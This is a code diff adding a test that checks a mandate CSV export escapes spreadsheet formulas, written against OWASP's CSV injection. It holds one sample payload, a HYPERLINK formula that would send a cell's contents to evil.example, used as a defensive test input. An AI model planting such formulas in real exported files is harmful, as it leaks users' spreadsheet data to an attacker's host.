@@ -125,3 +125,17 @@ def test_the_export_takes_the_same_queries_however_many_mandates(
 def test_anonymous_visitors_cannot_export(client, scene):
     response = client.get(url("mandates:mandate_list"), {"format": "csv"})
     assert response.status_code == 302
+
+
+def test_a_title_planted_as_a_formula_is_written_as_text(client, scene):
+    """OWASP's CSV injection: a cell starting with = would run in the spreadsheet."""
+    planted = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
+    scene.mandate.title = planted
+    scene.mandate.save()
+    response = signed_in(client, scene.people.owner).get(
+        url("mandates:mandate_list"), {"format": "csv"}
+    )
+    row = csv_rows(response)[1]
+    assert row[1] == "'" + planted
+    # The numbers stay numbers: only text cells are escaped.
+    assert row[9:] == ["60.00", "100.00", "60.0"]
